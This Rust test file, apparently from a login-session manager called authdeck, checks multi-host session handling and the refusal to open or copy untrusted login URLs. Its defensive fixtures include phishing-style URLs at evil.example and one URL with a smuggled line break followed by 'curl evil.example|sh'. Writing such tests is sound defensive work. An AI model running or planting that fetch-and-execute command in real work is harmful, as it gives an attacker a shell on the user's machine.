//! The laptop's side of the deck: several hosts in one list, and callbacks that are waited for here.

use authdeck::core::finding::Verdict;
use authdeck::core::ids::SessionId;
use authdeck::core::time::Timestamp;
use authdeck::protocol::event::Event;
use authdeck::protocol::method::{Method as _, Request, challenge, session, supervisor};
use authdeck::protocol::request::Nothing;
use authdeck::protocol::snapshot::{ChallengeView, SessionView, Snapshot, UrlView, Waiting};
use authdeck::tui::dialog::Dialog;
use authdeck::tui::model::{Item, Model};
use authdeck::tui::msg::{Cmd, HostNews, Msg};
use authdeck::tui::surroundings::Surroundings;
use authdeck::tui::update::update;

use super::ui_stage::*;

/// A deck on a laptop with a browser.
struct Laptop {
    model: Model,
    orders: Vec<Cmd>,
}

impl Laptop {
    fn new(hosts: &[&str]) -> Self {
        let surroundings = Surroundings { ssh: false, display: true, ..settings().surroundings };
        let catalogue = Some(std::sync::Arc::new(authdeck::config::catalogue::Catalogue::built_in()));
        let settings = authdeck::tui::settings::Settings { surroundings, catalogue, ..settings() };
        let mut model = Model::new(settings, (80, 24), Vec::new(), Vec::new());
        model.reach_out(hosts.iter().map(|&host| host.to_owned()).collect());
        Self { model, orders: Vec::new() }
    }

    fn send(&mut self, msg: Msg) {
        self.orders.extend(update(&mut self.model, msg, NOW));
    }

    fn snapshot(&mut self, host: usize, ahead: u64, sessions: Vec<SessionView>) {
        let snapshot = Snapshot { now: Timestamp(NOW.0 + ahead), sessions, ..Snapshot::default() };
        self.send(Msg::Host(host, HostNews::Snapshot(Box::new(snapshot))));
    }

    fn changed(&mut self, host: usize, session: SessionView) {
        let event = Event::SessionChanged { session: Box::new(session) };
        self.send(Msg::Host(host, HostNews::Event(Box::new(event))));
    }

    /// The orders about ports since the last time: `+auth-1!` listens and opens, `+auth-1` listens, `-auth-1` ceases.
    fn ports(&mut self) -> Vec<String> {
        let orders = std::mem::take(&mut self.orders).into_iter();
        orders
            .filter_map(|order| match order {
                Cmd::Listen { session_id, open, .. } => {
                    Some(format!("+{session_id}{}", if open { "!" } else { "" }))
                }
                Cmd::StopListening(session_id) => Some(format!("-{session_id}")),
                _ => None,
            })
            .collect()
    }
}

/// A login that waits for its browser. Its host always says that the URL is expected.
fn waiting(id: &str, verdict: Verdict) -> SessionView {
    let host = if verdict == Verdict::Expected { "auth.openai.com" } else { "login.example.com" };
    let end = "state=s&redirect_uri=http%3A%2F%2Flocalhost%3A1455%2Fcb";
    at(id, &format!("https://{host}/authorize?{end}"))
}

fn at(id: &str, url: &str) -> SessionView {
    SessionView {
        waiting: Waiting::OpenUrlThenPaste,
        url: Some(UrlView {
            url: url.into(),
            host: "auth.openai.com".into(),
            verdict: Verdict::Expected,
            reason: "expected for codex".into(),
            disputed: false,
        }),
        ..session(id, "codex")
    }
}

#[test]
fn the_hosts_are_a_column_and_one_in_trouble_keeps_its_sessions() {
    let mut laptop = Laptop::new(&["devbox", "build2"]);
    laptop.snapshot(0, 0, vec![claude(), gh_done()]);
    laptop.snapshot(
        1,
        3_600_000,
        vec![SessionView { deadline_at: Some(Timestamp(NOW.0 + 3_660_000)), ..codex() }],
    );
    laptop.send(Msg::Host(1, HostNews::Trouble("no route to host".into())));
    let mut stage = Stage::new((80, 24));
    stage.model = laptop.model;
    insta::with_settings!({
        snapshot_path => "../../snapshots", prepend_module_to_snapshot => false, omit_expression => true
    }, { insta::assert_snapshot!("hosts_80x24", stage.picture()) });
    let codex = stage.model.session(&codex().session_id).unwrap();
    assert_eq!(codex.deadline_at, Some(Timestamp(NOW.0 + 60_000)), "the host's clock is an hour ahead");
}

#[test]
fn a_request_goes_to_the_host_of_what_it_is_about() {
    let mut laptop = Laptop::new(&["devbox", "build2"]);
    laptop.snapshot(0, 0, vec![session("1", "gh")]);
    laptop.snapshot(1, 0, vec![session("2", "gh")]);
    let kill = |id: &str| {
        Request::Session(session::Request::Kill(authdeck::protocol::request::Kill {
            session_id: SessionId::new(id),
            force: true,
        }))
    };
    assert_eq!((laptop.model.host_for(&kill("auth-1")), laptop.model.host_for(&kill("auth-2"))), (0, 1));
    assert_eq!(
        laptop.model.host_for(&supervisor::Providers::request(Nothing {})),
        0,
        "where the selection is"
    );
    // What the host does not list any more is gone; what the other one lists is not.
    laptop.snapshot(1, 0, Vec::new());
    let ids: Vec<&str> = laptop.model.sessions.iter().map(|session| session.session_id.as_str()).collect();
    assert_eq!(ids, ["auth-1"]);
}

#[test]
fn a_login_is_listened_for_only_while_it_waits_and_opened_only_if_it_is_new_and_trusted() {
    let mut laptop = Laptop::new(&["devbox", "build2"]);
    laptop.snapshot(0, 0, vec![waiting("1", Verdict::Expected)]);
    assert_eq!(laptop.ports(), ["+auth-1"], "it waited before the deck came");
    laptop.changed(0, waiting("2", Verdict::Expected));
    laptop.changed(1, waiting("3", Verdict::Unknown));
    assert_eq!(laptop.ports(), ["+auth-2!", "+auth-3"]);
    laptop.changed(0, waiting("2", Verdict::Expected));
    assert_eq!(laptop.ports(), [""; 0], "nothing new");
    laptop.changed(0, SessionView { waiting: Waiting::Submitted, ..waiting("2", Verdict::Expected) });
    laptop.send(Msg::Host(
        1,
        HostNews::Event(Box::new(Event::SessionRemoved { session_id: SessionId::new("auth-3") })),
    ));
    assert_eq!(laptop.ports(), ["-auth-2", "-auth-3"]);
}

#[test]
fn a_deck_beside_its_sessions_listens_for_nothing() {
    let mut stage = Stage::of((80, 24), Vec::new());
    stage.event(Event::SessionAdded { session: Box::new(waiting("1", Verdict::Expected)) });
    assert!(!stage.orders.iter().any(|order| matches!(order, Cmd::Listen { .. })));
}

#[test]
fn a_host_opens_nothing_by_calling_it_expected() {
    let mut laptop = Laptop::new(&["devbox", "build2"]);
    laptop.snapshot(0, 0, Vec::new());
    let end = "redirect_uri=http%3A%2F%2Flocalhost%3A1455%2Fcb";
    laptop.changed(0, at("1", &format!("https://evil.example/authorize?{end}")));
    laptop.changed(0, at("2", &format!("http://192.168.1.1/reboot?{end}")));
    laptop.changed(0, at("3", &format!("http://auth.openai.com/authorize?{end}")));
    assert_eq!(laptop.ports(), ["+auth-1", "+auth-2", "+auth-3"]);
    let url =
        laptop.model.session(&SessionId::new("auth-1")).and_then(|session| session.url.clone()).unwrap();
    assert_eq!((url.host.as_str(), url.verdict), ("evil.example", Verdict::Unknown));
    for port in [80, 443, 1023] {
        let end = format!("redirect_uri=http%3A%2F%2Flocalhost%3A{port}%2Fcb");
        laptop.changed(0, at("4", &format!("https://auth.openai.com/authorize?{end}")));
        assert_eq!(laptop.ports(), [""; 0], "port {port} is the system's");
    }
}

#[test]
fn a_session_opens_one_page_by_itself_at_the_most() {
    let mut laptop = Laptop::new(&["devbox", "build2"]);
    laptop.snapshot(0, 0, Vec::new());
    let mut opened = 0;
    for attempt in 0..10 {
        let end = format!("state={attempt}&redirect_uri=http%3A%2F%2Flocalhost%3A1455%2Fcb");
        laptop.changed(0, at("1", &format!("https://auth.openai.com/authorize?{end}")));
        let session_id = SessionId::new("auth-1");
        laptop.send(Msg::Host(0, HostNews::Event(Box::new(Event::SessionRemoved { session_id }))));
        opened += laptop.ports().iter().filter(|order| order.ends_with('!')).count();
    }
    assert_eq!(opened, 1);
}

#[test]
fn what_two_hosts_call_by_one_id_stays_two_things() {
    let mut laptop = Laptop::new(&["devbox", "build2"]);
    laptop.snapshot(0, 0, vec![session("1", "gh")]);
    laptop.snapshot(1, 0, vec![session("1", "codex")]);
    assert_eq!(laptop.model.sessions.len(), 2);
    let park = |laptop: &mut Laptop, host: usize, title: &str| {
        let challenge = ChallengeView { title: title.into(), ..git_challenge() };
        let event = Event::ChallengeParked { challenge: Box::new(challenge) };
        laptop.send(Msg::Host(host, HostNews::Event(Box::new(event))));
    };
    park(&mut laptop, 0, "asks on devbox");
    let first = laptop.model.challenges[0].challenge_id.clone();
    laptop.model.selection = Some(Item::Challenge(first));
    laptop.send(Msg::Key("enter".parse().unwrap()));
    assert!(matches!(laptop.model.dialog, Some(Dialog::Answer(_))));
    // While the person types, the other host parks under the same id, and takes it back.
    park(&mut laptop, 1, "asks on build2");
    assert_eq!(laptop.model.challenges.len(), 2);
    for letter in ["a", "b"] {
        laptop.send(Msg::Key(letter.parse().unwrap()));
    }
    laptop.orders.clear();
    laptop.send(Msg::Key("enter".parse().unwrap()));
    let answer = laptop.orders.iter().find_map(|order| match order {
        Cmd::Request(_, request)
            if matches!(**request, Request::Challenge(challenge::Request::Answer(_))) =>
        {
            Some((**request).clone())
        }
        _ => None,
    });
    let mut answer = answer.expect("an answer");
    assert_eq!(laptop.model.host_for(&answer), 0, "the secret goes to the host that asked for it");
    laptop.model.hosts.address(&mut answer);
    let Request::Challenge(challenge::Request::Answer(answer)) = answer else { unreachable!() };
    assert_eq!(answer.challenge_id.as_str(), git_challenge().challenge_id.as_str());
    let second = laptop.model.challenges.iter().find(|it| it.title == "asks on build2").unwrap();
    let named = |id: &str| laptop.model.hosts.their_id(id).to_owned();
    assert_eq!(named(second.challenge_id.as_str()), answer.challenge_id.as_str());
    assert_eq!(laptop.model.hosts.of.get(second.challenge_id.as_str()), Some(&1));
}

#[test]
fn what_is_suspicious_or_disputed_asks_before_it_is_copied_opened_or_shown() {
    for (verdict, disputed) in [(Verdict::Suspicious, false), (Verdict::Expected, true)] {
        for key in ["u", "o", "s"] {
            let mut laptop = Laptop::new(&["devbox"]);
            laptop.model.remote = false;
            let url = "https://user@evil.example/authorize".to_owned();
            let reason = "there is a user name before the host".to_owned();
            let url = UrlView { url, host: "evil.example".into(), verdict, reason, disputed };
            let session = SessionView { url: Some(url), ..waiting("1", Verdict::Expected) };
            laptop.send(Msg::Snapshot(Box::new(Snapshot {
                sessions: vec![session],
                now: NOW,
                ..Snapshot::default()
            })));
            laptop.orders.clear();
            laptop.send(Msg::Key(key.parse().unwrap()));
            let Some(Dialog::Confirm(question)) = &laptop.model.dialog else { panic!("{key} does not ask") };
            assert!(question.detail[0].contains(if disputed {
                "differ"
            } else {
                "user name before the host"
            }));
            assert!(
                !laptop.orders.iter().any(|order| matches!(order, Cmd::Copy { .. } | Cmd::Open(_))),
                "{key}"
            );
        }
    }
}

#[test]
fn a_url_with_a_line_break_is_neither_copied_nor_opened() {
    for key in ["u", "o", "s"] {
        let mut laptop = Laptop::new(&["devbox", "build2"]);
        laptop.snapshot(0, 0, vec![at("1", "https://auth.openai.com/a\ncurl evil.example|sh\n")]);
        laptop.orders.clear();
        laptop.send(Msg::Key(key.parse().unwrap()));
        assert!(!laptop.orders.iter().any(|order| matches!(order, Cmd::Copy { .. } | Cmd::Open(_))), "{key}");
        assert!(laptop.model.dialog.is_none(), "{key}");
    }
}
